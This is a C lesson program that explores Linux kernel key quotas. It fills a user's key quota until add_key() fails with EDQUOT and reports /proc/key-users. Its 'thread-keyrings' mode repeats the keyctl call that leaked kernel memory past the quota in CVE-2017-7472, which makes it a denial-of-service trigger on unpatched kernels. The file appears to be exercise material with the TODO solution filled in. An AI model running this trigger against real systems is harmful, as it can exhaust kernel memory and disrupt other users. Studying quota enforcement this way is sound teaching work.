// Lesson 2.7b: can an unprivileged user exhaust kernel memory through keys? Every key lives in
// kernel memory, so the kernel charges keys to their owner: at most maxkeys keys and maxbytes
// bytes of payload per user (/proc/sys/kernel/keys/, 200 and 20000 for non-root users), shown
// in /proc/key-users. Past the quota add_key() fails with EDQUOT.
//   keyctl-quota fill BYTES            add BYTES-sized keys until add_key() fails
//   keyctl-quota thread-keyrings N     fill the quota, then ask N times for a thread keyring as the
//                                      default request-key keyring: the call that leaked one
//                                      keyring each time past the quota in CVE-2017-7472
// Output is "name: value" lines. No libkeyutils: the system calls are made directly.
#include <errno.h>
#include <linux/keyctl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

// far above any non-root quota: the loop ends even if the quota never stops it
#define MAX_KEYS 5000

static inline long add_key(const char *type, const char *desc, const void *payload, size_t len,
			   long keyring)
{
	return syscall(SYS_add_key, type, desc, payload, len, keyring);
}

static inline long keyctl(int op, unsigned long arg)
{
	return syscall(SYS_keyctl, op, arg, 0, 0, 0);
}

// This user's line of /proc/key-users: "uid: usage nkeys/nikeys qnkeys/maxkeys qnbytes/maxbytes".
static void print_key_users(const char *label)
{
	char line[256], prefix[32];
	FILE *f = fopen("/proc/key-users", "r");

	snprintf(prefix, sizeof(prefix), "%5u:", (unsigned int)getuid());
	while (f && fgets(line, sizeof(line), f)) {
		if (!strncmp(line, prefix, strlen(prefix))) {
			printf("%s: %s", label, line);
			break;
		}
	}
	if (f)
		fclose(f);
}

// Add keys of payload_size bytes to the process keyring until the kernel refuses.
// Returns how many were added; *err gets the errno of the refusal (0 if none).
static int fill_quota(size_t payload_size, int *err)
{
	char *payload = calloc(1, payload_size);
	int added = 0;

	*err = 0;
	if (!payload) {
		*err = errno;
		return 0;
	}
	/* TODO(2.7b) BEGIN: add_key() "lab-key-<n>" until it fails; count them, errno in *err */
	while (added < MAX_KEYS) {
		char desc[32];

		snprintf(desc, sizeof(desc), "lab-key-%d", added);
		if (add_key("user", desc, payload, payload_size, KEY_SPEC_PROCESS_KEYRING) < 0) {
			*err = errno;
			break;
		}
		added++;
	}
	/* TODO(2.7b) END */
	free(payload);
	return added;
}

static void print_fill(size_t payload_size)
{
	int err;
	int added = fill_quota(payload_size, &err);

	printf("added: %d\n", added);
	printf("error: %s (%s)\n", err == EDQUOT ? "EDQUOT" : err ? "other" : "none",
	       err ? strerror(err) : "-");
	print_key_users("key-users");
}

static int thread_keyrings(int calls)
{
	int i;

	print_fill(1);
	for (i = 0; i < calls; i++) {
		if (keyctl(KEYCTL_SET_REQKEY_KEYRING, KEY_REQKEY_DEFL_THREAD_KEYRING) < 0) {
			printf("set-reqkey-keyring failed at call %d: %s\n", i + 1, strerror(errno));
			return 1;
		}
	}
	printf("calls: %d\n", calls);
	print_key_users("key-users-after");
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 3 && !strcmp(argv[1], "fill")) {
		print_fill(strtoul(argv[2], NULL, 0));
		return 0;
	}
	if (argc == 3 && !strcmp(argv[1], "thread-keyrings"))
		return thread_keyrings(atoi(argv[2]));
	fprintf(stderr, "usage: %s fill BYTES | thread-keyrings CALLS\n", argv[0]);
	return 2;
}
